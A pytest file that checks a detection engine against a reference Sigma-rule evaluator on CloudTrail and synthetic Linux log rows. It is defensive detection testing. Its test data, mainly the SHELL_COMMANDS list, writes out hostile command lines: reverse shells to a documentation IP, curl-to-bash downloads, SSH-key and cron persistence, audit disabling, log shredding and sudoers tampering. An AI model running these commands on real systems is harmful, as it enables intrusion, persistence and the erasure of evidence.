"""The DuckDB engine and the plain-Python reference evaluator agree on every shipped rule.

The reference (tests/sigma_reference.py) implements docs/detection.md row by row; a
disagreement names the rule and the events only one side found. The reference is pinned to
the doc's examples first, then compared with the engine on two timelines: the whole
CloudTrail corpus, and synthetic rows for the Linux artifacts (plus CloudTrail edge cases
the corpus lacks: case-insensitive grouping, per-element array values, window edges).
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

import cloudir
from tests.conftest import cloudir as run_cli
from tests.sigma_reference import Finding, Row, evaluate, load_rules, read_timeline, rule_matches
from tests.timeline_rows import timeline_row, write_timeline

RULES = Path(cloudir.__file__).parent / "analyze" / "rules"


def engine_hits(case: Path) -> dict[str, set[str]]:
    result = run_cli("detect", "--case", str(case), "--json", "--fail-on", "critical")
    assert result.code == 0, result.stderr
    return {f["rule_id"]: set(f["event_ids"]) for f in result.json()["findings"]}


def _describe(rows: dict[str, Row], event_ids: set[str]) -> str:
    def one(event_id: str) -> str:
        record = rows[event_id].record
        what = record["action"] or record["message"] or record["raw"]
        return f"{event_id} ({record['artifact']} {record['timestamp']:%H:%M:%S.%f} {what[:60]})"

    more = " ..." if len(event_ids) > 5 else ""
    return "; ".join(one(e) for e in sorted(event_ids)[:5]) + more if event_ids else "none"


def assert_agreement(case: Path) -> dict[str, Finding]:
    """Engine and reference find the same events for every rule; returns the reference."""
    rows = read_timeline(case)
    reference = evaluate(load_rules([RULES]), rows)
    engine = engine_hits(case)
    extra = sorted(set(engine) - set(reference))
    assert not extra, f"the engine reported rules the reference does not: {extra}"
    by_id = {r.event_id: r for r in rows}
    problems = []
    for rule_id, finding in sorted(reference.items()):
        found = engine.get(rule_id, set())
        if found != finding.event_ids:
            problems.append(
                f"{rule_id} {finding.title!r}: engine {len(found)}, reference "
                f"{len(finding.event_ids)}\n"
                f"    only engine: {_describe(by_id, found - finding.event_ids)}\n"
                f"    only reference: {_describe(by_id, finding.event_ids - found)}"
            )
    assert not problems, f"{len(problems)} rules disagree:\n" + "\n".join(problems)
    return reference


# -- the reference itself, on the doc's own examples ----------------------------------------

SELECTORS = {"eventSelectors": [{"readWriteType": "All"}, {"readWriteType": "ReadOnly"}]}
DOC_EXAMPLES = [
    ("requestParameters.eventSelectors.readWriteType: ReadOnly", "s",
     {"requestParameters": SELECTORS}, True),
    ("requestParameters.eventSelectors.readWriteType: ReadOnly", "not s",
     {"requestParameters": SELECTORS}, False),
    ("a.b: '*x*'", "s", {"a": [[{"b": ["y", "X"]}]]}, True),
    ("a: '{\"b\":1}'", "s", {"a": {"b": 1}}, True),
    ("a: 'true'", "s", {"a": True}, True),
    ("a: '22'", "s", {"a": 22}, True),
    ("a: '\\*'", "s", {"a": "*"}, True),
    ("a: '\\*'", "s", {"a": "x"}, False),
    ("a: null", "s", {"a": None}, True),
    ("a|exists: true", "s", {"a": None}, False),
    ("a: x", "not s", {}, True),
    ("a|cidr: 10.0.0.0/8", "s", {"a": "ec2.amazonaws.com"}, False),
    ("a|cidr: 'fc00::/7'", "s", {"a": "FD00::1"}, True),
    ("a|gte: 22", "s", {"a": "22"}, True),
    ("a|gte: 22", "s", {"a": "twenty-two"}, False),
    ("a|re: '^Get'", "s", {"a": "getObject"}, False),
    ("a|re|i: '^Get'", "s", {"a": "getObject"}, True),
    ("a|fieldref|endswith: b", "s", {"a": "user/Alice", "b": "alice"}, True),
    ("- 'Failed PASSWORD for'", "s", {"m": "sshd: failed password for root"}, True),
]  # fmt: skip


@pytest.mark.parametrize(("selection", "condition", "raw", "expected"), DOC_EXAMPLES)
def test_reference_follows_the_doc_examples(
    selection: str, condition: str, raw: dict, expected: bool
) -> None:
    """docs/detection.md's own rules, so the reference is not only checked against the engine."""
    from sigma.collection import SigmaCollection

    text = f"title: t\nlogsource: {{product: aws}}\ndetection:\n  s:\n    {selection}\n"
    [rule] = SigmaCollection.from_yaml(text + f"  condition: {condition}\n").rules
    row = Row({"event_id": "e", "timestamp": None, "raw": json.dumps(raw)})
    assert rule_matches(rule, row) is expected


# -- the CloudTrail corpus ------------------------------------------------------------------


@pytest.fixture(scope="module")
def cloudtrail_case(corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Everything under cloudtrail/ the timeline can read (bad files are skipped there)."""
    case = tmp_path_factory.mktemp("reference") / "case"
    assert run_cli("capture", "files", "--case", str(case), str(corpus / "cloudtrail")).code == 0
    assert run_cli("timeline", "--case", str(case)).code == 0
    return case


def test_engine_agrees_with_reference_on_the_cloudtrail_corpus(cloudtrail_case: Path) -> None:
    reference = assert_agreement(cloudtrail_case)
    assert len(reference) >= 30
    assert sum(len(f.event_ids) for f in reference.values()) > 0


# -- synthetic Linux (and CloudTrail edge-case) rows ----------------------------------------

T0 = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
ATTACKER, ATTACKER6, SLOW = "203.0.113.9", "2001:db8::7", "198.51.100.20"


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def syslog(artifact: str, seconds: float, program: str, message: str, **columns: Any) -> dict:
    """A syslog-style line as the host parsers store it (docs/detection.md)."""
    host = columns.setdefault("host", "web1")
    when = at(seconds)
    raw = {"timestamp": f"{when:%b %d %H:%M:%S}", "host": host, "program": program}
    return timeline_row(artifact, when, {**raw, "pid": 4242, "message": message}, **columns)


def sshd(seconds: float, message: str, ip: str | None, user: str | None = None, **kw: Any) -> dict:
    program = kw.pop("program", "sshd")
    return syslog("linux:auth", seconds, program, message, src_ip=ip, user=user, **kw)


def failure(seconds: float, user: str, ip: str, kind: str = "Failed password", **kw: Any) -> dict:
    return sshd(seconds, f"{kind} for {user} from {ip} port 22 ssh2", ip, user, **kw)


def burst(start: float, ip: str, then: float | None = None, **kw: Any) -> list[dict[str, Any]]:
    """Ten failures 10 s apart, and a login `then` seconds after the first if given."""
    rows = [failure(start + 10 * n, "root", ip, **kw) for n in range(10)]
    if then is not None:
        rows.append(sshd(start + then, f"Accepted password for root from {ip}", ip, "root", **kw))
    return rows


def auth_rows() -> list[dict[str, Any]]:
    users = ["root", "admin", "oracle", "ROOT", "test", "ubuntu", "pi", "root"] * 2
    return [
        # An earlier login lies in the qualifying window of brute-force-then-success.
        sshd(-100, f"Accepted publickey for ubuntu from {ATTACKER}", ATTACKER),
        # 12 failures in 5.5 minutes with 6 user names (one in two cases), then a login.
        *(failure(30 * n, users[n], ATTACKER) for n in range(12)),
        sshd(100, f"Invalid user guest from {ATTACKER} port 40100", ATTACKER, "guest"),
        sshd(1200, f"Accepted password for ubuntu from {ATTACKER}", ATTACKER, "ubuntu"),
        # The same address against another host: five failures only.
        *(failure(40 + 30 * n, "root", ATTACKER, host="db1") for n in range(5)),
        # Exactly 10 failures, the first and last exactly 10 minutes apart (both ends
        # count), the address written in two cases (one group), other failure messages.
        *(
            failure(5000 + n * 600 / 9, "root", ATTACKER6.upper() if n % 2 else ATTACKER6, kind)
            for n, kind in enumerate(["Failed none", "Failed keyboard-interactive/pam"] * 5)
        ),
        sshd(5700, f"Accepted password for root from {ATTACKER6}", ATTACKER6, "root"),
        # 10 failures spanning 600.001 s: never 10 in one window.
        *(failure(8000.001 + n * 600 / 9 if n else 8000, "admin", SLOW) for n in range(10)),
        # Not sshd, and a failure without an address (no group).
        *(failure(9000 + n, "root", "192.0.2.77", program="sshd-session") for n in range(10)),
        sshd(9100, "Failed password for root", None, "root"),
        syslog("linux:auth", 9200, "useradd", "new user: name=backdoor, UID=0, GID=0"),
        # Brute force then success at the edges: a login at the same instant as the 10th
        # failure, exactly 1 h after it (both count), 1 h + 1 us after it (does not), and
        # a login before the failures only (does not).
        *burst(10000, "192.0.2.1", then=90),
        *burst(20000, "192.0.2.2", then=90 + 3600),
        *burst(30000, "192.0.2.3", then=90 + 3600.000001),
        *burst(40000, "192.0.2.4", then=-1000),
        # Ten failures at one instant; ten from a row without a host (no group).
        *(
            sshd(50000, f"Failed password for root from 192.0.2.5 port {n}", "192.0.2.5")
            for n in range(10)
        ),
        *burst(60000, "192.0.2.6", host=None),
    ]


def host_log_rows() -> list[dict[str, Any]]:
    return [
        syslog("linux:syslog", 20000, "rsyslogd", "exiting on signal 15."),
        syslog("linux:syslog", 20001, "dockerd", "exiting on signal 15"),
        syslog("linux:syslog", 20002, "systemd", "Stopped System Logging Service."),
        syslog("linux:journal", 20003, "kernel", "audit: type=1305 audit_enabled=0 old=1"),
        syslog("linux:cron", 20004, "auditd", "The audit daemon is exiting."),
        syslog("linux:cron", 20005, "crontab", "(root) REPLACE (root)"),
        syslog("linux:cron", 20006, "crontab", "(alice) BEGIN EDIT (alice)"),
        syslog("linux:cron", 20007, "CRON", "(root) CMD (run-parts /etc/cron.hourly)"),
        syslog("linux:cron", 20008, "CRON", "(deploy) CMD (/var/tmp/.cache/kworkerd)"),
    ]


AUDIT_RECORDS: list[dict[str, Any]] = [
    {"type": "PATH", "name": "/root/.ssh/authorized_keys", "nametype": "CREATE"},
    {"type": "PATH", "name": "/root/.ssh/", "nametype": "PARENT"},
    {"type": "PATH", "name": "/home/bob/.ssh/authorized_keys2", "nametype": "NORMAL"},
    {"type": "PATH", "name": "/etc/cron.d/backdoor", "nametype": "CREATE"},
    {"type": "PATH", "name": "/etc/cron.d/", "nametype": "PARENT"},
    {"type": "SYSCALL", "exe": "/tmp/.x/xmrig", "syscall": 59, "success": "yes"},
    {"type": "SYSCALL", "exe": "/usr/bin/tmpwatch", "syscall": 59},
    {"type": "ADD_USER", "acct": "backdoor", "res": "success"},
    {"type": "EXECVE", "argc": 2, "a0": "chmod", "a1": "+x"},  # no CommandLine: not a process
    {"type": "EXECVE", "a0": "useradd", "Image": "/usr/sbin/useradd",
     "CommandLine": "useradd -o -u 0 backdoor"},
]  # fmt: skip

SHELL_COMMANDS = [
    ("curl -fsSL http://203.0.113.5/i.sh | sudo bash", "/usr/bin/curl"),
    ("wget -q http://203.0.113.5/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", "/usr/bin/wget"),
    ("chmod 755 /dev/shm/k", "/usr/bin/chmod"),
    ("chmod 644 /tmp/notes.txt", "/usr/bin/chmod"),
    ("/tmp/x", "/tmp/x"),
    ("history -c", "history"),
    ("rm -f ~/.bash_history", "/usr/bin/rm"),
    ("cat ~/.bash_history", "/usr/bin/cat"),
    ("echo 'ssh-ed25519 AAAAC3 attacker' >> /root/.ssh/authorized_keys", "/usr/bin/echo"),
    ("cat ~/.ssh/authorized_keys", "/usr/bin/cat"),
    ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "/usr/bin/bash"),
    ("nc -e /bin/sh 203.0.113.5 4444", "/usr/bin/nc"),
    ("socat exec:'bash -li',pty tcp:203.0.113.5:4444", "/usr/bin/socat"),
    ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "/usr/bin/python3"),
    ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "/usr/bin/crontab"),
    ("crontab -l", "/usr/bin/crontab"),
    ("echo '* * * * * root /tmp/x' > /etc/cron.d/x", "/usr/bin/echo"),
    ("systemctl link /tmp/evil.service", "/usr/bin/systemctl"),
    ("loginctl enable-linger bob", "/usr/bin/loginctl"),
    ("systemctl stop rsyslog", "/usr/bin/systemctl"),
    ("systemctl status auditd", "/usr/bin/systemctl"),
    ("auditctl -e 0", "/usr/sbin/auditctl"),
    ("shred -u /var/log/auth.log", "/usr/bin/shred"),
    ("journalctl --vacuum-time=1s", "/usr/bin/journalctl"),
    ("usermod -aG sudo bob", "/usr/sbin/usermod"),
    ("echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "/usr/bin/echo"),
    ("adduser --system svc", "/usr/sbin/adduser"),
]


def process_rows() -> list[dict[str, Any]]:
    def shell(artifact: str, seconds: float, command: str, image: str, **raw: Any) -> dict:
        raw = {"CommandLine": command, "Image": image, "User": "root", **raw}
        return timeline_row(artifact, at(seconds), raw, host="web1", user="root", message=command)

    return [
        *(
            timeline_row("linux:auditd", at(30000 + n), {"msg": f"audit(1795.{n}:7{n})", **rec})
            for n, rec in enumerate(AUDIT_RECORDS)
        ),
        *(shell("linux:bash_history", 40000 + n, *cmd) for n, cmd in enumerate(SHELL_COMMANDS)),
        shell("linux:zsh_history", 40100, "curl http://203.0.113.5/a | sh", "/usr/bin/curl"),
        shell(
            "linux:bash_history", 40101, "rm /var/log/app.1", "/bin/rm", ParentImage="/logrotate"
        ),
        # No CommandLine: outside process_creation even though Image is in /tmp.
        timeline_row("linux:bash_history", at(40102), {"Image": "/tmp/y", "message": "/tmp/y"}),
    ]


def cloudtrail(seconds: float, name: str, source: str, **fields: Any) -> dict[str, Any]:
    raw = {
        "eventTime": f"{at(seconds):%Y-%m-%dT%H:%M:%SZ}",
        "eventSource": source,
        "eventName": name,
        "sourceIPAddress": "198.51.100.7",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111111111111:user/alice"},
        **fields,
    }
    columns = {"user": raw["userIdentity"].get("arn"), "src_ip": raw["sourceIPAddress"]}
    return timeline_row("aws:cloudtrail", at(seconds), raw, action=f"{source}:{name}", **columns)


IAM, EC2, TRAIL = "iam.amazonaws.com", "ec2.amazonaws.com", "cloudtrail.amazonaws.com"
DENIED = [
    "ListUsers", "ListRoles", "GetAccountSummary", "ListBuckets", "DescribeInstances",
    "ListFunctions", "ListSecrets", "DescribeDBInstances", "ListKeys", "listusers",
    "GetCallerIdentity",
]  # fmt: skip
INSTANCE = {
    "type": "AssumedRole",
    "principalId": "AROAEXAMPLE:i-0123456789abcdef0",
    "accessKeyId": "ASIAEXAMPLE",
    "arn": "arn:aws:sts::111111111111:assumed-role/r/i-0123456789abcdef0",
}


def cloudtrail_edge_rows() -> list[dict[str, Any]]:
    mallory = "arn:aws:iam::111111111111:user/Mallory"
    world_https = {"fromPort": 443, "toPort": 443, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}
    private_ssh = {"fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}}
    return [
        cloudtrail(50001, "CreateAccessKey", IAM, requestParameters={"userName": "bob"}),
        # World-open and port 22 in different items: each field condition is any-element.
        cloudtrail(
            50002, "AuthorizeSecurityGroupIngress", EC2,
            requestParameters={"ipPermissions": {"items": [world_https, private_ssh]}},
        ),
        cloudtrail(
            50003, "AuthorizeSecurityGroupIngress", EC2,
            requestParameters={"cidrIp": "0.0.0.0/0", "fromPort": "3389", "toPort": 3389},
        ),
        cloudtrail(
            50004, "PutEventSelectors", TRAIL,
            requestParameters={"advancedEventSelectors": [{"fieldSelectors": [
                {"field": "eventCategory", "equals": ["Management"]},
                {"field": "readOnly", "equals": ["true"]},
            ]}]},
        ),
        cloudtrail(
            50005, "PutEventSelectors", TRAIL,
            requestParameters={"eventSelectors": [{"readWriteType": "All"}]},
        ),
        # Ten different denied calls by one principal whose ARN is written in two cases;
        # "listusers" repeats "ListUsers" and is not a new value.
        *(
            cloudtrail(
                51000 + 50 * n, name, "sts.amazonaws.com", errorCode="AccessDenied",
                userIdentity={"type": "IAMUser", "arn": mallory.upper() if n % 2 else mallory},
            )
            for n, name in enumerate(DENIED)
        ),
        # Instance credentials from a private IPv6 (filtered by cidr), then two public ones.
        *(
            cloudtrail(52000 + 60 * n, "ListBuckets", "s3.amazonaws.com",
                       sourceIPAddress=ip, userIdentity=INSTANCE)
            for n, ip in enumerate(["FD12:3456::1", "203.0.113.50", "198.51.100.60"])
        ),
    ]  # fmt: skip


def whole_value_rows() -> list[dict]:
    """fieldref compares case-insensitively; exists/null/fieldref see an array as one value."""
    eve = {"userName": "eve"}
    alice = {"type": "IAMUser", "arn": "arn:aws:iam::111111111111:user/Alice"}
    return [
        cloudtrail(60000, "CreateAccessKey", IAM, requestParameters={"userName": "alice"},
                   userIdentity=alice),
        cloudtrail(60001, "CreateAccessKey", IAM, requestParameters={"userName": ["alice"]}),
        cloudtrail(60002, "CreateAccessKey", IAM, requestParameters={"userName": [None]}),
        cloudtrail(60003, "CreateUser", IAM, requestParameters=eve, errorCode=[None]),
        cloudtrail(60004, "CreateAccessKey", IAM, requestParameters=eve, errorCode=[None]),
    ]  # fmt: skip


@pytest.fixture(scope="module")
def synthetic_case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    case = tmp_path_factory.mktemp("reference-synthetic") / "case"
    rows = auth_rows() + host_log_rows() + process_rows()
    write_timeline(case, rows + cloudtrail_edge_rows() + whole_value_rows())
    return case


def test_engine_agrees_with_reference_on_synthetic_linux_rows(synthetic_case: Path) -> None:
    reference = assert_agreement(synthetic_case)
    linux = {str(r.id) for r in load_rules([RULES / "linux"]) if str(r.id) in reference}
    silent = sorted(f"{i} {reference[i].title}" for i in linux if not reference[i].event_ids)
    assert not silent, "the synthetic rows should exercise every Linux rule"
    assert len(linux) >= 20
